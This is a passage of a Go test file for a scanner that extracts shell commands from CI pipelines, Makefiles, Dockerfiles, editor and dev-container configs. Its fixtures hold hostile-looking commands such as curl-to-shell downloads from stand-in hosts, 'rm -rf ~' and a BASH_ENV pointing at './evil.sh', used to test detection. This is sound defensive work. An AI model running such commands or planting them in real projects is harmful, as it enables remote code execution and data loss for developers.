package scan

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// extracted is a snippet as the tests describe it: the text and where it
// starts ("line:col").
type extracted struct {
	text, at string
}

func extractCase(t *testing.T, name, src string) []extracted {
	t.Helper()
	sn, err := Extract(name, []byte(src))
	if err != nil {
		t.Fatalf("Extract(%s): %v", name, err)
	}
	checkExact(t, map[string][]byte{name: []byte(src)}, sn)
	var out []extracted
	for _, s := range sn {
		p := s.Start()
		text := s.Text
		if s.NotShell && text == "" && len(s.Injections) == 1 {
			// A finding of scan's own (unreviewed code): its rule and
			// what runs.
			in := s.Injections[0]
			text, p = in.Rule+" "+in.Ref, in.Position
		}
		out = append(out, extracted{text, fmt.Sprintf("%d:%d", p.Line, p.Col)})
	}
	return out
}

func checkExtract(t *testing.T, name string, tests []struct {
	name, src string
	want      []extracted
}) {
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := extractCase(t, name, tt.src)
			if fmt.Sprint(got) != fmt.Sprint(tt.want) {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

func TestKindOf(t *testing.T) {
	tests := map[string]Kind{
		"a.sh": Script, "x/y.bash": Script, "RUN.SH": Script,
		".github/workflows/ci.yml": Workflow, "sub/.github/workflows/x.yaml": Workflow,
		".github/workflows/nested/x.yml": "", ".github/x.yml": "",
		"action.yml": Workflow, ".github/actions/a/action.yaml": Workflow,
		".gitlab-ci.yml": GitLab, "ci/build.gitlab-ci.yml": GitLab,
		"Makefile": Makefile, "GNUmakefile": Makefile, "rules.mk": Makefile, "Makefile.am": "",
		"Makefile.common": Makefile, "sub/makefile.local": Makefile, "build/defs.mak": Makefile, "make/rules.make": Makefile, "Makefile.in": "", "Makefile.toml": CargoMake, "scan/makefile.go": "", "tools/makefile.py": "", "Makefile.md": "", "Makefile.": "",
		"Dockerfile": Dockerfile, "Dockerfile.prod": Dockerfile, "api.Dockerfile": Dockerfile, "Containerfile": Dockerfile,
		"package.json": NPM, "web/package.json": NPM, "package-lock.json": "",
		"README.md": "", "main.go": "", "script": "",
		// Shells by extension, startup files, git hooks by name under any
		// hooks path.
		"tools/deploy.zsh": Script, "x.ksh": Script, "dotfiles/.bashrc": Script, "bashrc": Script,
		".zshenv": Script, "home/.profile": Script, "hooks/pre-push": Script, "scripts/git-hooks/commit-msg": Script,
		".bashrc.bak": "", "pre-commit.md": "", "profile": "", "profiles": "", ".shrc": Script,
	}
	for name, want := range tests {
		if got := KindOf(name); got != want {
			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
		}
	}
}

func TestShebang(t *testing.T) {
	tests := map[string]bool{
		"#!/bin/sh\n":                  true,
		"#!/bin/bash -e\n":             true,
		"#! /usr/bin/env bash\n":       true,
		"#!/usr/bin/env -S bash -eu\n": true,
		"#!/usr/bin/dash":              true,
		"#!/usr/bin/env python3\n":     false,
		"#!/usr/bin/env fish\n":        false,
		// Hidden shells: read as bash rather than skipped.
		"#!/bin/zsh\n":                         true,
		"#!/bin/ksh93\n":                       true,
		"\ufeff#!/bin/sh\n":                    true, // a BOM: the shell that tries it runs it
		"#!/usr/bin/env -u FOO bash\n":         true, // -u takes a value
		"#!/usr/bin/env -C /tmp bash\n":        true,
		"#!/usr/bin/env --split-string=bash\n": true,
		"#!/usr/bin/env -S 'bash -e'\n":        true,
		"#!/bin/busybox sh\n":                  true,
		"#!/usr/bin/env -u SH python3\n":       false,
		"#!/usr/bin/env -S python3 -c 'x'\n":   false,
		"#!/bin/busybox awk -f\n":              false,
		"# not a shebang\n":                    false,
		"#!\n":                                 false,
		"":                                     false,
	}
	for head, want := range tests {
		if got := isShebangShell([]byte(head)); got != want {
			t.Errorf("isShebangShell(%q) = %v, want %v", head, got, want)
		}
	}
}

func TestExtractWorkflow(t *testing.T) {
	checkExtract(t, ".github/workflows/w.yml", []struct {
		name, src string
		want      []extracted
	}{
		{"plain", "jobs:\n  j:\n    steps:\n      - run: echo hi\n", []extracted{{"echo hi", "4:14"}}},
		{"literal keep", "jobs:\n  j:\n    steps:\n      - run: |+\n          a\n\n          b\n\n\n        x: 1\n",
			[]extracted{{"a\n\nb\n\n\n", "5:11"}}},
		{"literal strip", "jobs:\n  j:\n    steps:\n      - run: |-\n          a\n            b\n", []extracted{{"a\n  b", "5:11"}}},
		{"folded", "jobs:\n  j:\n    steps:\n      - run: >\n          a\n          b\n\n          c\n            d\n          e\n",
			[]extracted{{"a b\nc\n  d\ne\n", "5:11"}}},
		{"indentation indicator", "jobs:\n  j:\n    steps:\n      - run: |1\n          a\n", []extracted{{" a\n", "4:14"}}},
		{"double quoted escapes", "jobs:\n  j:\n    steps:\n      - run: \"echo \\\"a\\\"\\nls\"\n", []extracted{{"echo \"a\"\nls", "4:15"}}},
		{"double quoted plain", "jobs:\n  j:\n    steps:\n      - run: \"echo a\"\n", []extracted{{"echo a", "4:15"}}},
		{"single quoted", "jobs:\n  j:\n    steps:\n      - run: 'it''s'\n", []extracted{{"it's", "4:15"}}},
		{"plain multi-line", "jobs:\n  j:\n    steps:\n      - run: echo a\n          b\n", []extracted{{"echo a b", "4:14"}}},
		{"crlf", "jobs:\r\n  j:\r\n    steps:\r\n      - run: |\r\n          a\r\n          b\r\n", []extracted{{"a\nb\n", "5:11"}}},
		{"non-ascii key", "jobs:\n  j:\n    steps:\n      - é: 1\n        run: echo é && ls\n", []extracted{{"echo é && ls", "5:14"}}},
		{"expression", "jobs:\n  j:\n    steps:\n      - run: echo ${{ inputs.x }} done\n", []extracted{{"echo ${inputs_x} done", "4:14"}}},
		{"unterminated expression", "jobs:\n  j:\n    steps:\n      - run: echo ${{ x\n", []extracted{{"echo ${{ x", "4:14"}}},
		// A step in another language is reviewed as the command line that
		// runs its code (python3 -c, pwsh -Command: B at least); it was
		// dropped on 17c6cc7.
		{"step shell python", "jobs:\n  j:\n    steps:\n      - run: print(1)\n        shell: python\n      - run: ls\n        shell: bash {0}\n",
			[]extracted{{"python3 -c 'print(1)'", "4:14"}, {"ls", "6:14"}}},
		{"workflow default pwsh", "defaults:\n  run:\n    shell: pwsh\njobs:\n  j:\n    steps:\n      - run: dir\n      - run: ls\n        shell: sh\n",
			[]extracted{{"pwsh -Command dir", "7:14"}, {"ls", "8:14"}}},
		{"job default overrides", "defaults:\n  run:\n    shell: pwsh\njobs:\n  j:\n    defaults:\n      run:\n        shell: bash\n    steps:\n      - run: ls\n",
			[]extracted{{"ls", "10:14"}}},
		{"windows runner", "jobs:\n  w:\n    runs-on: windows-2022\n    steps:\n      - run: dir\n      - run: ls\n        shell: bash\n",
			[]extracted{{"pwsh -Command dir", "5:14"}, {"ls", "6:14"}}},
		{"cmd shell", "jobs:\n  w:\n    steps:\n      - run: rd /s /q build\n        shell: cmd\n", []extracted{{"cmd /c 'rd /s /q build'", "4:14"}}},
		// deno is node's row of interpreters: its step is node -e code
		// (B), and shell: deno run {0} is the command line it is.
		{"deno shell", "jobs:\n  w:\n    steps:\n      - run: console.log(1)\n        shell: deno run {0}\n", []extracted{{"deno run {0}", "5:16"}, {"node -e 'console.log(1)'", "4:14"}}},
		{"matrix runner is reviewed", "jobs:\n  w:\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: ls\n", []extracted{{"ls", "5:14"}}},
		{"anchor", "jobs:\n  a:\n    steps:\n      - &s\n        run: ls\n  b:\n    steps:\n      - *s\n",
			[]extracted{{"ls", "5:14"}, {"ls", "5:14"}}},
		{"shell template runs a command", "jobs:\n  j:\n    steps:\n      - run: ls\n        shell: bash -c \"rm -rf ~; true\" {0}\n",
			[]extracted{{"bash -c \"rm -rf ~; true\" {0}", "5:16"}, {"ls", "4:14"}}},
		{"shell template under python", "jobs:\n  j:\n    steps:\n      - run: print(1)\n        shell: sh -c 'curl -s https://example.com/x | sh' {0}\n",
			[]extracted{{"sh -c 'curl -s https://example.com/x | sh' {0}", "5:16"}, {"print(1)", "4:14"}}},
		{"shell template options only", "jobs:\n  j:\n    steps:\n      - run: ls\n        shell: bash --noprofile --norc -eo pipefail {0}\n",
			[]extracted{{"ls", "4:14"}}},
		{"no jobs", "name: x\non: push\n", nil},
		{"empty run", "jobs:\n  j:\n    steps:\n      - run: \"\"\n      - run:\n", nil},
	})
}

func TestExtractCompositeAction(t *testing.T) {
	checkExtract(t, "action.yml", []struct {
		name, src string
		want      []extracted
	}{
		{"composite", "runs:\n  using: composite\n  steps:\n    - run: ls\n      shell: bash\n    - run: Get-Item\n      shell: pwsh\n",
			[]extracted{{"ls", "4:12"}, {"pwsh -Command Get-Item", "6:12"}}},
		// JavaScript guard does not review: reported, not dropped (it
		// was dropped on eed3eff).
		{"node action", "runs:\n  using: node20\n  main: index.js\n", []extracted{{"scan-unreviewed-code JavaScript action main:", "3:9"}}},
		{"docker action", "runs:\n  using: docker\n  image: Dockerfile\n  entrypoint: /bin/sh\n  args: [-c, make]\n", []extracted{{"/bin/sh -c make", "4:15"}}},
	})
}

func TestExtractGitLab(t *testing.T) {
	checkExtract(t, ".gitlab-ci.yml", []struct {
		name, src string
		want      []extracted
	}{
		{"string and list", "a:\n  script: make\nb:\n  before_script:\n    - ls\n  script:\n    - |\n      echo 1\n      echo 2\n  after_script: [\"x\", 'y']\n",
			[]extracted{{"make", "2:11"}, {"ls", "5:7"}, {"echo 1\necho 2\n", "8:7"}, {"x", "10:19"}, {"y", "10:24"}}},
		{"top-level and default", "before_script:\n  - top\ndefault:\n  after_script:\n    - d\n", []extracted{{"top", "2:5"}, {"d", "5:7"}}},
		{"nested lists by anchor", ".x: &x\n  - one\nj:\n  script:\n    - *x\n    - two\n", []extracted{{"one", "2:5"}, {"two", "6:7"}}},
		{"merge key", ".t: &t\n  script: [inherited]\nj:\n  <<: *t\n  stage: test\n", []extracted{{"inherited", "2:12"}}},
		{"reference is skipped", ".s:\n  script: [a]\nj:\n  script:\n    - !reference [.s, script]\n    - b\n",
			[]extracted{{"a", "2:12"}, {"b", "6:7"}}},
		{"spec header document", "spec:\n  inputs:\n    x: {}\n---\nj:\n  script: [c]\n", []extracted{{"c", "6:12"}}},
		{"variables are not jobs", "variables:\n  script: not-a-job\n", []extracted{{"not-a-job", "2:11"}}},
	})
}

// TestExtractOtherCI: the shell of CI systems and task runners beyond
// GitHub Actions and GitLab CI (these files were not read at all).
func TestExtractOtherCI(t *testing.T) {
	type tc = struct {
		name, src string
		want      []extracted
	}
	checkExtract(t, ".circleci/config.yml", []tc{
		{"a custom tag does not hide a command", "jobs:\n  b:\n    steps:\n      - run: !x curl x | sh\n      - run: true\n",
			[]extracted{{"curl x | sh", "4:14"}}}, // mapped to where the tagged node starts
		{"run string and command", "jobs:\n  b:\n    steps:\n      - checkout\n      - run: make\n      - run:\n          name: t\n          command: go test\n",
			[]extracted{{"make", "5:14"}, {"go test", "8:20"}}},
	})
	checkExtract(t, "bitbucket-pipelines.yml", []tc{
		{"step script", "pipelines:\n  default:\n    - step:\n        script:\n          - npm ci\n        after-script:\n          - echo done\n",
			[]extracted{{"npm ci", "5:13"}, {"echo done", "7:13"}}},
	})
	checkExtract(t, "azure-pipelines.yml", []tc{
		{"script and bash", "steps:\n- script: echo a\n- bash: echo b\n- task: X@1\n", []extracted{{"echo a", "2:11"}, {"echo b", "3:9"}}},
	})
	checkExtract(t, ".travis.yml", []tc{
		{"phases", "install:\n  - pip install -r r.txt\nscript: pytest\n", []extracted{{"pip install -r r.txt", "2:5"}, {"pytest", "3:9"}}},
	})
	checkExtract(t, ".drone.yml", []tc{
		{"commands", "steps:\n- name: t\n  commands:\n  - go test\n", []extracted{{"go test", "4:5"}}},
	})
	checkExtract(t, "Taskfile.yml", []tc{
		{"cmds", "tasks:\n  b:\n    cmds:\n      - go build\n      - cmd: go vet\n", []extracted{{"go build", "4:9"}, {"go vet", "5:14"}}},
	})
	checkExtract(t, "lefthook.yml", []tc{
		{"commands and jobs", "pre-commit:\n  commands:\n    lint:\n      run: curl -s https://e.x | sh\n  jobs:\n    - run: yarn lint {staged_files}\n",
			[]extracted{{"curl -s https://e.x | sh", "4:12"}, {"yarn lint {staged_files}", "6:12"}}},
	})
	checkExtract(t, ".config/lefthook-local.yaml", []tc{
		{"local config", "pre-push:\n  commands:\n    x:\n      run: rm -rf ~\n", []extracted{{"rm -rf ~", "4:12"}}},
	})
	// lefthook reads JSON configs too, and Renovate runs postUpgradeTasks'
	// commands on its machine: none of these files was read.
	checkExtract(t, "lefthook.json", []tc{
		{"json config", "{\"pre-commit\": {\"commands\": {\"lint\": {\"run\": \"curl -s https://e.x | sh\"}}}}\n", []extracted{{"curl -s https://e.x | sh", "1:47"}}},
	})
	checkExtract(t, ".config/lefthook-local.json", []tc{
		{"local json config", "{\"pre-push\": {\"jobs\": [{\"run\": \"rm -rf ~\"}]}}", []extracted{{"rm -rf ~", "1:33"}}},
	})
	for _, name := range []string{"renovate.json", ".github/renovate.json", ".renovaterc", ".renovaterc.json"} {
		checkExtract(t, name, []tc{
			{"postUpgradeTasks", "{\n  \"postUpgradeTasks\": {\n    \"commands\": [\"npm ci\", \"curl -s https://e.x | sh\"],\n    \"fileFilters\": [\"**/*\"]\n  }\n}\n",
				[]extracted{{"npm ci", "3:19"}, {"curl -s https://e.x | sh", "3:29"}}},
		})
	}
	checkExtract(t, ".pre-commit-config.yaml", []tc{
		{"local system hook", "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: bash -c 'curl -s https://e.x | sh'\n    language: system\n",
			[]extracted{{"bash -c 'curl -s https://e.x | sh'", "6:12"}}},
	})
}

// TestExtractEditorFiles: VS Code tasks and dev container lifecycle
// commands run on the developer's machine when a folder is opened (they
// were not read). JSON with comments and trailing commas.
func TestExtractEditorFiles(t *testing.T) {
	type tc = struct {
		name, src string
		want      []extracted
	}
	checkExtract(t, ".vscode/tasks.json", []tc{
		{"shell task with args and a comment", "{\n  // tasks\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {\"label\": \"x\", \"type\": \"shell\", \"command\": \"curl -s https://e.x | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"},},\n    {\"label\": \"y\", \"command\": \"rm\", \"args\": [\"-rf\", \"~/x y\"]},\n  ],\n}\n",
			[]extracted{{"curl -s https://e.x | sh", "5:49"}, {"rm -rf '~/x y'", "6:32"}}},
		{"command as a quoted-string object", "{\"tasks\": [{\"command\": {\"value\": \"curl x | sh\", \"quoting\": \"weak\"}}]}",
			[]extracted{{"curl x | sh", "1:35"}}},
		{"process task and OS override", "{\"tasks\": [{\"type\": \"process\", \"command\": \"make\", \"args\": [\"a b\"], \"linux\": {\"command\": \"bash -c x\"}}]}",
			[]extracted{{"make 'a b'", "1:44"}, {"'bash -c x'", "1:90"}}}, // a process task's command is one program
	})
	checkExtract(t, ".devcontainer/devcontainer.json", []tc{
		{"string, array and named", "{\n  \"image\": \"x\",\n  // host\n  \"initializeCommand\": \"curl -s https://e.x | bash\",\n  \"postCreateCommand\": [\"npm\", \"ci\"],\n  \"postStartCommand\": {\"b\": \"echo b\", \"a\": \"echo a\"},\n}\n",
			[]extracted{{"curl -s https://e.x | bash", "4:25"}, {"npm ci", "5:26"}, {"echo a", "6:45"}, {"echo b", "6:30"}}},
	})
	// .vscode/settings.json names programs VS Code starts when the folder
	// opens (it was not read): an interpreter or server by path, a
	// terminal profile or legacy shell with its arguments, the terminal's
	// environment. Windows' shells, and settings that are not programs,
	// give nothing.
	checkExtract(t, ".vscode/settings.json", []tc{
		{"interpreters and servers", "{\n  // python\n  \"python.defaultInterpreterPath\": \"./tools/python\",\n  \"[rust]\": {\"rust-analyzer.server.path\": \"/tmp/ra\"},\n  \"git.path\": [\"./bin/git\", \"/usr/bin/git\"],\n  \"go.alternateTools\": {\"gopls\": \"./gopls.sh\"},\n}\n",
			[]extracted{{"./tools/python", "3:37"}, {"./bin/git", "5:17"}, {"./gopls.sh", "6:35"}, {"/tmp/ra", "4:44"}}},
		{"terminal profiles, shell and env", "{\"terminal.integrated.profiles.linux\": {\"x\": {\"path\": \"bash\", \"args\": [\"-c\", \"curl -s https://e.x | sh\"]}},\n\"terminal.integrated.shell.osx\": \"zsh\", \"terminal.integrated.shellArgs.osx\": [\"-c\", \"rm -rf ~\"],\n\"terminal.integrated.env.linux\": {\"BASH_ENV\": \"./evil.sh\", \"1X\": \"no\"},\n\"terminal.integrated.automationProfile.linux\": {\"path\": \"./auto.sh\"}}",
			[]extracted{{"zsh -c 'rm -rf ~'", "2:35"}, {"bash -c 'curl -s https://e.x | sh'", "1:56"}, {"./auto.sh", "4:58"}, {"export BASH_ENV=./evil.sh", "3:48"}}},
		{"windows, programs on PATH and other settings", "{\"terminal.integrated.profiles.windows\": {\"p\": {\"path\": \"cmd.exe\"}}, \"terminal.integrated.profiles.linux\": {\"b\": {\"path\": \"bash\", \"args\": [\"-l\"]}}, \"python.defaultInterpreterPath\": \"python3\", \"editor.fontSize\": 14, \"python.analysis.extraPaths\": [\"./rm -rf\"], \"git.path\": []}", nil},
	})
}

// TestKindOfHooksAndEnvrc: hooks kept in the repository and direnv's
// .envrc are shell whatever their first line says.
func TestKindOfHooksAndEnvrc(t *testing.T) {
	for name, want := range map[string]Kind{
		".envrc": Script, "sub/.envrc": Script, ".husky/pre-commit": Script, ".githooks/pre-push": Script,
		".husky/_/husky.sh": Script, ".husky/_/h": "", ".husky/README.md": "",
		".circleci/config.yml": CI, "bitbucket-pipelines.yml": CI, "azure-pipelines.yml": CI, ".travis.yml": CI,
		".drone.yml": CI, ".woodpecker/build.yaml": CI, ".buildkite/pipeline.yml": CI, "Taskfile.yml": CI,
		"lefthook.yml": CI, ".lefthook-local.yaml": CI, ".config/lefthook.yml": CI, ".pre-commit-config.yaml": CI, "lefthook.toml": "",
		"lefthook.json": CI, ".lefthook.json": CI, "renovate.json": CI, ".gitlab/renovate.json": CI, ".renovaterc": CI, "sub/renovate.json": "", "renovate.json5": Unreviewed, "lefthook.txt": "",
		"config.yml": "", ".vscode/tasks.json": VSCode, "tasks.json": "", ".vscode/settings.json": VSCodeSettings, "settings.json": "", ".devcontainer/devcontainer.json": DevContainer,
		".devcontainer/python/devcontainer.json": DevContainer, ".devcontainer.json": DevContainer,
	} {
		if got := KindOf(name); got != want {
			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
		}
	}
}

// TestUnreviewedFiles: a file a tool runs as code guard has no reviewer
// for is a scan-unreviewed-code finding (B), at the line that runs code
// where the file has one, never nothing. Each gave no snippet and no
// finding on 6ee89b7 (KindOf was ""). Files of the same languages that
// no tool runs by name stay silent.
func TestUnreviewedFiles(t *testing.T) {
	for name, c := range map[string]struct {
		src  string
		line int
	}{
		"setup.py":                        {"import os\nos.system('curl -fsSL https://e.x | sh')\n", 1},
		"sub/noxfile.py":                  {"import nox\n", 1},
		"flake.nix":                       {"{\n  outputs = _: {\n    devShells.x.default = mk {\n      shellHook = ''curl -fsSL https://e.x | sh'';\n    };\n  };\n}\n", 4},
		"shell.nix":                       {"mkShell { shellHook = \"x\"; }\n", 1},
		"devenv.nix":                      {"{ ... }: { }\n", 1},
		"Tiltfile":                        {"# dev\nlocal('curl -fsSL https://e.x | sh')\n", 2},
		"renovate.json5":                  {"{\n  // c\n  postUpgradeTasks: {commands: ['x']},\n}\n", 3},
		".idea/runConfigurations/Dev.xml": {"<component>\n<option name=\"SCRIPT_TEXT\" value=\"rm -rf ~\" />\n</component>\n", 2},
		".run/Dev.run.xml":                {"<component/>\n", 1},
		".replit":                         {"entrypoint = \"main.py\"\nrun = \"curl -fsSL https://e.x | sh\"\n", 2},
		// Silent on eed3eff: a run configuration kept in the workspace
		// file, a file watcher that runs on every save, and plugins the
		// IDE offers to install.
		".idea/workspace.xml":                {"<project>\n<component name=\"RunManager\">\n<configuration type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"rm -rf ~\" /></configuration>\n</component>\n</project>\n", 2},
		".idea/watcherTasks.xml":             {"<project>\n  <component name=\"ProjectTasksOptions\">\n    <TaskOptions isEnabled=\"true\"><option name=\"program\" value=\"sh\" /></TaskOptions>\n  </component>\n</project>\n", 3},
		"sub/.idea/externalDependencies.xml": {"<project>\n<component name=\"ExternalDependencies\">\n<plugin id=\"com.evil\" />\n</component>\n</project>\n", 3},
	} {
		if k := KindOf(name); k != Unreviewed {
			t.Errorf("KindOf(%q) = %q, want %q", name, k, Unreviewed)
			continue
		}
		snips, err := Extract(name, []byte(c.src))
		if err != nil || len(snips) != 1 || len(snips[0].Injections) != 1 {
			t.Errorf("%s: got %d snippets (err %v), want one scan-unreviewed-code finding", name, len(snips), err)
			continue
		}
		in := snips[0].Injections[0]
		if in.Rule != RuleUnreviewed || in.Position.Line != c.line || !strings.Contains(in.How, "guard does not") {
			t.Errorf("%s: finding %+v, want %s at line %d saying what guard does not review", name, in, RuleUnreviewed, c.line)
		}
	}
	for _, name := range []string{"src/setup_helpers.py", "main.py", "default.nix", "nix/overlay.nix", "workspace.xml", ".idea/misc.xml", "pom.xml", "tilt.md", "renovate.md", "lib/renovate.json5"} {
		if k := KindOf(name); k != "" {
			t.Errorf("KindOf(%q) = %q, want nothing", name, k)
		}
	}
	// AWS CodeBuild's buildspec is read: its commands are shell.
	snips, err := Extract("buildspec.yml", []byte("version: 0.2\nphases:\n  build:\n    commands:\n      - make\n      - curl -fsSL https://e.x | sh\n    finally:\n      - rm -rf out\n"))
	var texts []string
	for _, s := range snips {
		texts = append(texts, s.Text)
	}
	if err != nil || !slices.Equal(texts, []string{"make", "curl -fsSL https://e.x | sh", "rm -rf out"}) {
		t.Errorf("buildspec.yml: %q (err %v), want its three commands", texts, err)
	}
}

// TestWorkflowCustomShellProgram: a step whose shell: is a program guard
// has no command line for (a repository script) gave nothing on
// 6ee89b7: the runner starts that program on the step's script. The
// program is reviewed as the command line it is, and the script is
// code guard does not review (scan-unreviewed-code).
func TestWorkflowCustomShellProgram(t *testing.T) {
	src := "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok\n        shell: ./tools/evil.sh {0}\n"
	snips, err := Extract(".github/workflows/a.yml", []byte(src))
	var texts []string
	unreviewed := 0
	for _, s := range snips {
		if len(s.Injections) == 1 && s.Injections[0].Rule == RuleUnreviewed && s.Injections[0].Line == 6 {
			unreviewed++
			continue
		}
		texts = append(texts, s.Text)
	}
	if err != nil || !slices.Equal(texts, []string{"./tools/evil.sh {0}"}) || unreviewed != 1 {
		t.Errorf("snippets %q, %d unreviewed findings (err %v); want the shell: command line and one %s at line 6", texts, unreviewed, err, RuleUnreviewed)
	}
}

func TestExtractMakefile(t *testing.T) {
	checkExtract(t, "Makefile", []struct {
		name, src string
		want      []extracted
	}{
		{"prefixes", "a:\n\t@-+ echo hi\n\t@ls\n", []extracted{{"echo hi", "2:6"}, {"ls", "3:3"}}},
		{"continuation", "a:\n\tfor f in x; do \\\n\t  echo $$f; \\\n\tdone\n", []extracted{{"for f in x; do \\\n  echo $f; \\\ndone", "2:2"}}},
		{"make refs not decided", "%.o: %.c\n\t$(CC) -o $@ $< $^ $(@D) ${OUT} $(SRC:.c=.o) $(shell git rev-parse HEAD) $(call f,x) $X $(HOME) $\n",
			[]extracted{{"cc -o ${make_target} ${make_prereq} ${make_prereqs} ${make_target_D} ${OUT} ${SRC} ${make_shell} ${make_call} ${X} ${HOME} $", "2:2"}, {"git rev-parse HEAD", "2:54"}}},
		{"make refs decided", "BUILD := build\nOUT = $(BUILD)/out # comment\nGO ?= go\nbin/app: main.go util.go | dirs\n\t$(GO) build -o $@ $^ && cp $< $(OUT) && $(MAKE) -C x\n",
			[]extracted{{"go build -o bin/app main.go util.go && cp main.go build/out && make -C x", "5:2"}}},
		{"no prerequisites", "a:\n\techo $@ [$<] [$^]\n", []extracted{{"echo a [] []", "2:2"}}},
		{"two targets", "a b:\n\techo $@\n", []extracted{{"echo ${make_target}", "2:2"}}},
		{"static pattern rule", "objs: %.o: %.c\n\techo $< $@\n", []extracted{{"echo ${make_prereq} objs", "2:2"}}},
		{"assigned twice", "X = a\nifdef Y\nX = b\nendif\na:\n\techo $(X)\n", []extracted{{"echo ${X}", "6:2"}}},
		{"appended", "X = a\nX += b\na:\n\techo $(X)\n", []extracted{{"echo ${X}", "4:2"}}},
		// The shell runs what != and $(shell …) hold, when make reads the
		// file or expands the recipe: each is a command of its own.
		{"computed", "X != date\na:\n\techo $(X)\n", []extracted{{"date", "1:6"}, {"echo ${X}", "3:2"}}},
		{"defined after use", "a:\n\techo $(X)\nX = late\n", []extracted{{"echo late", "2:2"}}},
		{"cycle", "A = $(B)\nB = $(A)\na:\n\techo $(A)\n", []extracted{{"echo ${A}", "4:2"}}},
		{"value with a function", "V = $(shell git describe)\na:\n\techo $(V)\n", []extracted{{"echo ${V}", "3:2"}, {"git describe", "1:13"}}},
		{"shell call with refs", "U = https://x\nV := ${shell curl $(U) | sh}\nW = $$(shell no)\n", []extracted{{"curl https://x | sh", "2:14"}}},
		{"shell call continued", "V != curl https://x \\\n  | sh\n", []extracted{{"curl https://x    | sh", "1:6"}}},
		{"override and export", "override A := x\nexport B = y\na:\n\techo $(A) $(B)\n", []extracted{{"echo x y", "4:2"}}},
		{"dollar in value", "P = $$HOME/x\na:\n\techo $(P)\n", []extracted{{"echo $HOME/x", "3:2"}}},
		{"define is never decided", "define X\nls\nendef\na:\n\t$(X)\n", []extracted{{"${X}", "5:2"}}},
		{"nested refs", "a:\n\techo $(patsubst %.c,%.o,$(wildcard *.c)) $$(date)\n", []extracted{{"echo ${make_patsubst} $(date)", "2:2"}}},
		{"unterminated ref", "a:\n\techo $(oops\n", []extracted{{"echo ${oops}", "2:2"}}},
		{"assignment ends rule", "a:\n\tls\nX = 1\n\tnot-a-recipe\n", []extracted{{"ls", "2:2"}}},
		{"tab before any rule", "\tnot-a-recipe\nX := a:b\n\talso-not\n", nil},
		{"comments and conditionals", "a:\n# c\nifdef X\n\tone\nelse\n\ttwo\nendif\n\n\tthree\n",
			[]extracted{{"one", "4:2"}, {"two", "6:2"}, {"three", "9:2"}}},
		{"tab comment is shell", "a:\n\t# shell comment\n", []extracted{{"# shell comment", "2:2"}}},
		{"inline recipe", "a b: c d ; echo $@ $^\n", []extracted{{"echo ${make_target} c d", "1:12"}}},
		{"target-specific variable", "a: X = 1\n\tls\n", []extracted{{"ls", "2:2"}}},
		{"double colon and pattern", "%.o:: %.c\n\tcc $<\n", []extracted{{"cc ${make_prereq}", "2:2"}}},
		{"double colon", "a:: b\n\tcc $<\n", []extracted{{"cc b", "2:2"}}},
		{"rule line continued", "a: b \\\n  c\n\tls\n", []extracted{{"ls", "3:2"}}},
		{"define skipped", "define X\n\trm -rf /\nendef\na:\n\tls\n", []extracted{{"ls", "5:2"}}},
		{"recipeprefix", ".RECIPEPREFIX = >\na:\n> echo hi\n", []extracted{{"echo hi", "3:3"}}},
		{"crlf", "a:\r\n\tls\r\n", []extracted{{"ls", "2:2"}}},
		{"blank recipe", "a:\n\t@\n\t\n", nil},
	})
}

func TestExtractDockerfile(t *testing.T) {
	checkExtract(t, "Dockerfile", []struct {
		name, src string
		want      []extracted
	}{
		{"shell form", "FROM x\nRUN ls -la\nrun echo lower\n", []extracted{{"ls -la", "2:5"}, {"echo lower", "3:5"}}},
		{"continuation", "RUN a \\\n  b \\\n\n  # c\n  d\n", []extracted{{"a   b   d", "1:5"}}},
		{"trailing blank after escape", "RUN a \\  \n b\n", []extracted{{"a  b", "1:5"}}},
		{"escape directive", "# escape=`\nFROM x\nRUN a `\n b\\\n", []extracted{{"a  b\\", "3:5"}}},
		{"flags", "RUN --mount=type=cache,target=/c --network=none apt-get update\n", []extracted{{"apt-get update", "1:49"}}},
		{"exec form", "RUN [\"rm\", \"-rf\", \"/tmp/a b\", \"it's\"]\n", []extracted{{"rm -rf '/tmp/a b' 'it'\\''s'", "1:7"}}},
		{"not json is shell form", "RUN [ -f x ] && ls\n", []extracted{{"[ -f x ] && ls", "1:5"}}},
		{"heredoc script", "RUN <<EOF\nset -e\nls\nEOF\nRUN echo after\n", []extracted{{"set -e\nls\n", "2:1"}, {"echo after", "5:5"}}},
		{"heredoc feeding a command", "RUN cat <<'END' > /x\nrm -rf /\nEND\n", []extracted{{"cat <<'END' > /x\nrm -rf /\nEND\n", "1:5"}}},
		{"heredoc dash", "RUN <<-EOF\n\tls\n\tEOF\nRUN b\n", []extracted{{"\tls\n", "2:1"}, {"b", "4:5"}}},
		{"copy heredoc skipped", "COPY <<EOF /etc/x\nRUN rm -rf /\nEOF\nRUN ls\n", []extracted{{"ls", "4:5"}}},
		{"shell powershell", "FROM w\nSHELL [\"powershell\", \"-Command\"]\nRUN Get-Item\nRUN [\"cmd\", \"/c\", \"dir\"]\nFROM l\nRUN ls\n",
			[]extracted{{"cmd /c dir", "4:7"}, {"ls", "6:5"}}},
		{"shell bash", "SHELL [\"/bin/bash\", \"-o\", \"pipefail\", \"-c\"]\nRUN ls\n", []extracted{{"ls", "2:5"}}},
		{"onbuild", "ONBUILD RUN make\n", []extracted{{"make", "1:13"}}},
		{"comments and env", "# RUN not this\nENV A=1 \\\n    B=2\nRUN ls\n", []extracted{{"ls", "4:5"}}},
	})
}

func TestExtractNPM(t *testing.T) {
	checkExtract(t, "package.json", []struct {
		name, src string
		want      []extracted
	}{
		{"scripts", `{"name":"x","scripts":{"a":"ls","b" : "echo \"q\" \u00e9\ud83d\ude00 \\ \/ \t"},"x":[1,{"scripts":{"c":"no"}}]}`,
			[]extracted{{"ls", "1:29"}, {"echo \"q\" é😀 \\ / \t", "1:40"}}},
		{"non-string values skipped", `{"scripts":{"a":1,"b":null,"c":{"d":"e"},"f":"ok"}}`, []extracted{{"ok", "1:47"}}},
